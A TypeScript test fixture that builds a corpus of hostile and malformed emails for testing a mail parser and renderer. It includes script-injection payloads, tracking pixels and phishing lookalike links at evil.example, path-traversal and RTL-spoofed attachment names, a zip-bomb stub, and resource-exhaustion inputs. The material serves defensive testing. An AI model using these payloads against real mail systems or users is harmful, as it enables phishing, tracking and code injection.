/** Hostile and malformed mails, and some common ones: the corpus for the tests of parsing and displaying mails. */
import { compressed, messageBody, file, property, tnef } from './outlook/test-tnef.ts';

const crlf = (lines: readonly string[]) => lines.join('\r\n');

/** A mail of headers and a body; the body as bytes where its letters are not ASCII. */
export function mail(headers: Readonly<Record<string, string>>, body: string | Buffer = ''): Buffer {
  const named = { From: 'Jan Kowalski <jan@example.com>', Subject: 'Leasing', ...headers };
  const head = crlf([...Object.entries(named).map(([name, value]) => `${name}: ${value}`), '', '']);
  return Buffer.concat([Buffer.from(head), Buffer.from(body)]);
}

export const html = (body: string, headers: Readonly<Record<string, string>> = {}) =>
  mail({ 'MIME-Version': '1.0', 'Content-Type': 'text/html; charset=utf-8', ...headers }, body);

export const multipart = (parts: readonly string[], headers: Readonly<Record<string, string>> = {}) =>
  mail(
    { 'MIME-Version': '1.0', 'Content-Type': 'multipart/mixed; boundary="cut"', ...headers },
    crlf([...parts.flatMap((part) => ['--cut', part]), '--cut--', '']),
  );

export const attachment = (name: string, content: string | Buffer, type = 'text/plain') =>
  crlf([
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content).toString('base64'),
  ]);

const textPart = (text: string) => crlf(['Content-Type: text/plain; charset=utf-8', '', text]);

/** A mail inside a mail inside a mail. */
function nested(depth: number): Buffer {
  const opened = Array.from({ length: depth }, (_, level) =>
    crlf([`Content-Type: multipart/mixed; boundary="b${level}"`, '', `--b${level}`]),
  );
  return mail(
    { 'MIME-Version': '1.0', 'Content-Type': 'multipart/mixed; boundary="top"' },
    crlf(['--top', ...opened]),
  );
}

const winmail = (content: Buffer) => multipart([attachment('winmail.dat', content, 'application/ms-tnef')]);

const calendar = (lines: readonly string[]) =>
  mail(
    { 'Content-Type': 'text/calendar; method=REQUEST' },
    crlf(['BEGIN:VCALENDAR', ...lines, 'END:VCALENDAR']),
  );

const tag = (attributes: string) => html(`<p>Dzień dobry</p><div ${attributes}>x</div>`);

/** What it is called, and its bytes. */
export const hostileMails: Readonly<Record<string, () => Buffer>> = {
  'nothing at all': () => Buffer.alloc(0),
  'nothing but line breaks': () => Buffer.from('\r\n\r\n\r\n'),
  'no headers': () => Buffer.from('Dzień dobry'),
  'random bytes': () => Buffer.from(Array.from({ length: 20_000 }, (_, index) => (index * 7919) % 256)),
  'NUL everywhere': () => mail({ Subject: 'a\u0000b' }, 'c\u0000d'),
  'a header of 2 MB': () => mail({ 'X-Long': 'x'.repeat(2_000_000) }, 'text'),
  '20,000 headers': () =>
    Buffer.from(`${Array.from({ length: 20_000 }, (_, index) => `X-${index}: y`).join('\r\n')}\r\n\r\ntext`),
  'a subject of 100,000 characters': () => mail({ Subject: 'x'.repeat(100_000) }),
  'a sender without an address': () => mail({ From: 'Jan' }),
  'a sender that is another one': () => mail({ From: '"prezes@bank.example" <zly@evil.example>' }),
  'a sender turned around': () => mail({ From: '=?utf-8?Q?=E2=80=AEtoh?= <jan@example.com>' }),
  '10,000 senders': () =>
    mail({ From: Array.from({ length: 10_000 }, (_, i) => `a${i}@example.com`).join(', ') }),
  'a date of the year 275760': () => mail({ Date: 'Sat, 13 Sep 275760 00:00:00 +0000' }),
  'a date that is none': () => mail({ Date: 'wczoraj' }),
  'references without end': () => mail({ References: '<a@b> '.repeat(100_000) }),
  '10,000 parts': () => multipart(Array.from({ length: 10_000 }, () => textPart('x'))),
  '900 attachments': () => multipart(Array.from({ length: 900 }, (_, i) => attachment(`${i}.txt`, `${i}`))),
  'parts 5,000 deep': () => nested(5000),
  'a boundary that never comes': () =>
    mail(
      { 'MIME-Version': '1.0', 'Content-Type': 'multipart/mixed; boundary="never"' },
      'x'.repeat(1_000_000),
    ),
  'a boundary without a name': () => mail({ 'MIME-Version': '1.0', 'Content-Type': 'multipart/mixed' }, 'x'),
  'a cut attachment': () => multipart([attachment('a.pdf', 'x'.repeat(500))]).subarray(0, 400),
  'broken base64': () =>
    mail({ 'Content-Transfer-Encoding': 'base64', 'Content-Type': 'text/plain' }, '@@@ŻŻŻ===!!!'),
  'broken quoted-printable': () => mail({ 'Content-Transfer-Encoding': 'quoted-printable' }, '=ZZ=\r\n=C5=3'),
  'an unknown encoding': () => mail({ 'Content-Type': 'text/plain; charset=x-nobody' }, 'text'),
  'an unknown transfer encoding': () => mail({ 'Content-Transfer-Encoding': 'x-nobody' }, 'text'),
  'halves of surrogates': () => mail({ Subject: '=?utf-16?B?2ADYAA==?=' }, 'text'),
  'a path for a name': () => multipart([attachment('../../../etc/passwd', 'x')]),
  'a path of Windows for a name': () => multipart([attachment(String.raw`C:\Windows\evil.exe`, 'x')]),
  'a name turned around': () => multipart([attachment('umowa\u202efdp.exe', 'x')]),
  'a name of dots': () => multipart([attachment('..', 'x')]),
  'a name of 10,000 characters': () => multipart([attachment(`${'x'.repeat(10_000)}.pdf`, 'x')]),
  'an attachment of 30 MB': () => multipart([attachment('a.txt', 'x'.repeat(30 * 1024 * 1024))]),
  'a zip bomb': () =>
    multipart([attachment('42.zip', `PK\u0003\u0004${'\u0000'.repeat(1000)}`, 'application/zip')]),
  'a script': () => html('<p>Dzień dobry</p><script>alert(1)</script>'),
  'a script in an attribute': () => tag('onclick="alert(1)" onmouseover=alert(1)'),
  'a script in a link': () =>
    html('<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT&colon;alert(1)">y</a>'),
  'a script in a picture': () =>
    html('<img src=x onerror=alert(1)><svg onload=alert(1)><image href=x></svg>'),
  'a script in data': () =>
    html('<a href="data:text/html,<script>alert(1)</script>">x</a><img src="data:text/html,x">'),
  'a script in a comment': () => html('<!--[if gte mso 9]><script>alert(1)</script><![endif]--><p>x</p>'),
  'a tag that is not closed': () => html('<p>x<img src="https://evil.example/a.png"'),
  'tags in tags': () => html('<scr<script>ipt>alert(1)</scr</script>ipt><<img src=x onerror=alert(1)>'),
  'a frame': () => html('<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>'),
  'a form': () => html('<form action="https://evil.example"><input name=password><button>OK</button></form>'),
  'another base': () =>
    html('<base href="https://evil.example/"><a href="/x">y</a><link rel=stylesheet href=x>'),
  'a page that goes elsewhere': () =>
    html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  'a style that loads': () =>
    tag('style="background:url(https://evil.example/a.png);background-image:url(//evil.example)"'),
  'a style that covers': () => tag('style="position:fixed;top:0;left:0;width:100%;z-index:9999;color:red"'),
  'a style sheet that loads': () =>
    html('<style>@import "https://evil.example/a.css"; p{color:red}</style><p>x</p>'),
  'a style with a comment': () => tag('style="wid/**/th: expression(alert(1)); -moz-binding: url(x)"'),
  'a pixel that tells': () => html('<img src="https://evil.example/pixel.gif?who=1" width=1 height=1>'),
  'pictures in every way': () =>
    html(
      '<img srcset="https://evil.example/a.png 2x"><table background="https://evil.example/b.png"><tr><td>x</td></tr></table><video poster="https://evil.example/c.png"></video><picture><source srcset="https://evil.example/d.png"></picture><input type=image src="https://evil.example/e.png">',
    ),
  'a picture by half a protocol': () =>
    html('<img src="//evil.example/a.png"><img src="\\\\evil.example\\a.png">'),
  'a picture that says it is here': () => html('<img data-remote="x" src="cid:nobody">'),
  'a thousand pictures': () =>
    html(Array.from({ length: 1000 }, (_, i) => `<img src="https://evil.example/${i}.png">`).join('')),
  'a link that looks like another': () =>
    html(
      '<a href="https://evil.example/login">https://www.bank.example</a> <a href="https://bаnk.example">bank.example</a>',
    ),
  'a link with a name before it': () => html('<a href="https://bank.example@evil.example/">Bank</a>'),
  '100,000 open tags': () => html('<div>'.repeat(100_000)),
  '1,000 tables in each other': () => html('<table><tr><td>'.repeat(1000)),
  'a winmail.dat of random bytes': () =>
    winmail(Buffer.from(Array.from({ length: 20_000 }, (_, index) => (index * 7919) % 256))),
  'a winmail.dat that is cut': () => winmail(tnef(file('a.txt', 'x'.repeat(500))).subarray(0, 300)),
  'a winmail.dat of 900 files': () =>
    winmail(tnef(...Array.from({ length: 900 }, (_, index) => file(`${index}.txt`, `${index}`)))),
  'a winmail.dat with paths for names': () =>
    winmail(tnef(file('../../../etc/passwd', 'x'), file(String.raw`C:\Windows\evil.exe`, 'x'))),
  'a winmail.dat with a script': () =>
    winmail(
      tnef(
        messageBody(property(0x10_13, Buffer.from('<p>x</p><script>alert(1)</script><img src=x onerror=y>'))),
      ),
    ),
  'a winmail.dat with RTF that says it is 4 GB': () =>
    winmail(
      tnef(messageBody(property(0x10_09, compressed(`{\\rtf1 ${'{'.repeat(50_000)}x`, 0xff_ff_ff_ff)))),
    ),
  'a calendar that never ends': () =>
    calendar(['BEGIN:VEVENT', 'DTSTART:20261201T100000Z', 'RRULE:FREQ=SECONDLY', 'END:VEVENT']),
  'a calendar with a zone that changes every second': () =>
    calendar([
      'BEGIN:VTIMEZONE',
      'TZID:x',
      'BEGIN:STANDARD',
      'DTSTART:16010101T000000',
      'TZOFFSETFROM:+0100',
      'TZOFFSETTO:+0200',
      'RRULE:FREQ=SECONDLY',
      'END:STANDARD',
      'END:VTIMEZONE',
      'BEGIN:VEVENT',
      'DTSTART;TZID=x:20261201T100000',
      'END:VEVENT',
    ]),
  'a calendar of 15,000 zones': () => calendar(Array.from({ length: 15_000 }, () => 'BEGIN:VTIMEZONE')),
  'a calendar 10,000 deep': () => calendar(Array.from({ length: 10_000 }, () => 'BEGIN:VEVENT')),
  'a calendar of nothing': () => mail({ 'Content-Type': 'text/calendar' }),
  'HTML of 3 MB': () => html('<p>tak</p>'.repeat(300_000)),
};
